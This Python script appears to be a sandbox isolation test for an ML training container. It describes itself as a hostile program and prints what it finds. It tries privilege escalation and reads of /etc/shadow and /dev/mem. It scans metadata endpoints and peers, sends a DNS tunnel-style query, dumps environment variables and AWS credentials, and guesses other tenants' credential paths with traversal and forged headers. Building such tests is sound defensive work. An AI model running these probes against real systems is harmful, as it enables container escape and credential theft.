"""A hostile program inside the sandbox: tries everything, and prints what it found, a line for each."""

import ctypes
import errno
import http.client
import json
import os
import select
import shutil
import socket
import stat
import struct
import subprocess
import time

with open("/opt/ml/input/config/hyperparameters.json") as f:
    asked = json.load(f)
libc = ctypes.CDLL(None, use_errno=True)


def found(name, value):
    print("FOUND", name, json.dumps(value), flush=True)


def told(f, *args, **kw):
    """What came of a call: its result, or the name of its error."""
    try:
        return f(*args, **kw)
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
    except Exception as e:
        return getattr(e, "response", {}).get("Error", {}).get("Code") or f"{type(e).__name__}: {e}"


def syscall(f, *args):
    ctypes.set_errno(0)
    return "ok" if f(*args) == 0 else errno.errorcode.get(ctypes.get_errno(), "?")


def knock(targets, patience=3.0):
    """Opens every connection at once and says what came of each: open, refused, or silence."""
    results, pending = {}, {}
    poll = select.poll()

    def settle(fd):
        s, name = pending.pop(fd)
        poll.unregister(fd)
        code = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        results[name] = "open" if code == 0 else errno.errorcode.get(code, str(code))
        s.close()

    for host, port in targets:
        s = socket.socket()
        s.setblocking(False)
        code = s.connect_ex((host, port))
        if code not in (0, errno.EINPROGRESS):
            results[f"{host}:{port}"] = errno.errorcode.get(code, str(code))
            s.close()
            continue
        pending[s.fileno()] = s, f"{host}:{port}"
        poll.register(s, select.POLLOUT | select.POLLERR | select.POLLHUP)
    until = time.monotonic() + patience
    while pending and time.monotonic() < until:
        for fd, _ in poll.poll(100):
            settle(fd)
    for s, name in pending.values():
        results[name] = "silence"
        s.close()
    return results


def few(results):
    """How often each thing came of it, and every place that did not stay silent."""
    return {"silence": sum(v == "silence" for v in results.values()), "other": {k: v for k, v in results.items() if v != "silence"}}


def get(path, host="169.254.170.2", headers={}, method="GET"):
    c = http.client.HTTPConnection("169.254.170.2", timeout=5)
    c.request(method, path, headers={"Host": host, **headers})
    r = c.getresponse()
    return [r.status, r.read().decode("utf-8", "replace")]


def ask(server, name, kind):
    """One DNS query, by hand: the answer's code and how many answers it has."""
    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(query, (server, 53))
        _, flags, _, answers, _, _ = struct.unpack(">HHHHHH", s.recv(4096)[:12])
        return {"code": flags & 15, "answers": answers}


def who_am_i():
    with open("/proc/self/status") as f:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
    found("identity", {"uids": os.getresuid(), "gids": os.getresgid(), "groups": os.getgroups(),
                       "caps": [status.get(k) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]})
    found("environment", dict(os.environ))
    found("become", {
        "setuid": told(os.setuid, 0), "setgid": told(os.setgid, 0), "chroot": told(os.chroot, "/tmp"),
        "mount": syscall(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None), "umount": syscall(libc.umount2, b"/proc", 2),
        "mknod": told(os.mknod, "/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(7, 0)),
        "raw socket": told(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()),
        "packet socket": told(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
        "hostname": syscall(libc.sethostname, b"x", 1), "module": syscall(libc.syscall, 313, 0, 0, 0),
        "ptrace": syscall(libc.ptrace, 16, 1, 0, 0), "reboot": syscall(libc.reboot, 0),
    })
    effective = {}
    for own in ("/tmp/cat", "/opt/ml/model/cat"):
        shutil.copy("/usr/bin/cat", own)
        told(os.chmod, own, 0o6755)
        effective[own] = as_whom(own)
    for directory in ("/usr/bin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0"):
        for name in os.listdir(directory) if os.path.isdir(directory) else ():
            path = os.path.join(directory, name)
            if os.lstat(path).st_mode & (stat.S_ISUID | stat.S_ISGID) and stat.S_ISREG(os.lstat(path).st_mode):
                effective[path] = as_whom(path)
    found("setuid programs", effective)


def as_whom(path):
    """The effective ids under which a program runs."""
    try:
        p = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError as e:
        return errno.errorcode[e.errno]
    try:
        with open(f"/proc/{p.pid}/status") as f:
            ids = [line.split()[2] for line in f if line.startswith(("Uid:", "Gid:"))]
    except OSError:
        ids = []
    p.kill()
    p.wait()
    return ids


def what_is_here():
    found("processes", {p: told(lambda: open(f"/proc/{p}/cmdline").read().replace("\0", " ")) for p in os.listdir("/proc") if p.isdigit()})
    found("host files", [p for p in json.loads(asked["host_files"]) if os.path.lexists(p)])
    found("boot id", open("/proc/sys/kernel/random/boot_id").read().strip() if os.path.exists("/proc/sys/kernel/random/boot_id") else "")
    found("release", open("/proc/version").read())
    found("mounts", open("/proc/mounts").read())
    found("devices", sorted(n for n in os.listdir("/dev")))
    blocks = [n for n in os.listdir("/dev") if stat.S_ISBLK(os.lstat("/dev/" + n).st_mode)]
    found("block devices", blocks)
    found("writes", {p: told(lambda: os.close(os.open(p, os.O_WRONLY | os.O_CREAT))) for p in (
        "/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/sys/kernel/x",
        "/etc/passwd", "/usr/bin/python3", "/etc/x", "/opt/bawn/ca.pem", "/opt/bawn/x", "/dev/mem", "/dev/kmsg")})
    found("reads", {p: told(lambda: open(p, "rb").read(64).hex()) for p in ("/etc/shadow", "/proc/kcore", "/dev/mem", "/dev/kmsg")})


def where_to():
    ports = json.loads(asked["ports"])
    routers = json.loads(asked["routers"])
    began = time.monotonic()
    metadata = knock([("169.254.169.254", 80)])
    found("metadata", {"result": metadata, "seconds": time.monotonic() - began})
    found("router", knock([(a, p) for a in routers for p in ports + list(range(1, 200))]) if routers else {})
    ends = {n: told(lambda: socket.getaddrinfo(n, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]) for n in ("s3.us-east-1.amazonaws.com", "sts.us-east-1.amazonaws.com")}
    found("endpoints", {"addresses": list(ends.values()), "results": knock([(a, p) for a in ends.values() if a[0].isdigit() for p in ports + list(range(1, 200))])})
    found("outside", few(knock([(a, p) for a in ("203.0.113.10", "198.51.100.7", "192.0.2.1") for p in ports])))
    found("machine", few(knock([tuple(t) for t in json.loads(asked["host"])] + [(a, p) for a in json.loads(asked["host_addresses"]) for p in ports])))
    found("peers", {a: knock([(a, p) for p in ports]) for a in json.loads(asked["peers"])})
    found("interfaces", socket.if_nameindex())


def names():
    resolve = {n: told(lambda: sorted({a[4][0] for a in socket.getaddrinfo(n, 443, socket.AF_INET)})) for n in (
        "s3.us-east-1.amazonaws.com", "sts.us-east-1.amazonaws.com", "kms.us-east-1.amazonaws.com", "sagemaker.us-east-1.amazonaws.com",
        "example.com", "deb.debian.org", "localhost.example.org")}
    found("names", resolve)
    found("dns", {f"{server} {name} {kind}": told(ask, server, name, kind) for server in ("169.254.169.253", "10.60.0.2", "203.0.113.53", "192.0.2.53")
                  for name, kind in (("example.com", 1), ("c2VjcmV0.tunnel.example.org", 16), ("s3.us-east-1.amazonaws.com", 1))})


def credentials():
    own = os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]
    status, body = get(own)
    # Only a test prints these: to show what they are worth elsewhere.
    found("own credentials", {"status": status, **{k: v for k, v in json.loads(body).items()}})
    guesses = {
        "other's path": (json.loads(asked["paths"])[0],), "none": ("/",), "prefix": ("/v2/credentials/",), "zeros": ("/v2/credentials/" + "0" * 64,),
        "shorter": (own[:-1],), "longer": (own + "0",), "dots": ("/v2/credentials/../credentials/" + own.rsplit("/", 1)[1],),
        "query": (own + "?id=1",), "escaped": (own[:-1] + "%" + format(ord(own[-1]), "02x"),), "imds": ("/latest/meta-data/iam/security-credentials/",),
        "forged host": (own, "evil.example.org"), "imds host": (own, "169.254.169.254"),
        "X-Forwarded-For": (own, "169.254.170.2", {"X-Forwarded-For": asked["other"]}), "Forwarded": (own, "169.254.170.2", {"Forwarded": "for=" + asked["other"]}),
        "POST": (own, "169.254.170.2", {}, "POST"),
    }
    found("guesses", {name: told(get, *g) for name, g in guesses.items()})


def services():
    import boto3
    from botocore.config import Config

    quick = Config(connect_timeout=2, read_timeout=10, retries={"total_max_attempts": 1})
    s3, bucket = boto3.client("s3"), asked["bucket"]
    found("sts", boto3.client("sts").get_caller_identity()["Arn"])
    s3.put_object(Bucket=bucket, Key="probe/put", Body=b"from the inside")
    found("s3", s3.get_object(Bucket=bucket, Key="probe/put")["Body"].read().decode())
    found("fenced", told(lambda: s3.get_object(Bucket=asked["fenced"], Key="k")["Body"].read().decode()))
    found("not granted", {
        "delete": told(lambda: s3.delete_object(Bucket=bucket, Key="probe/put")), "buckets": told(s3.list_buckets),
        "assume": told(lambda: boto3.client("sts").assume_role(RoleArn=asked["starter"], RoleSessionName="x")),
        "kms": told(lambda: boto3.client("kms", config=quick).list_keys()), "iam": told(lambda: boto3.client("iam", config=quick).list_users())})


who_am_i()
what_is_here()
where_to()
names()
if "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" in os.environ:
    credentials()
    services()
found("done", True)
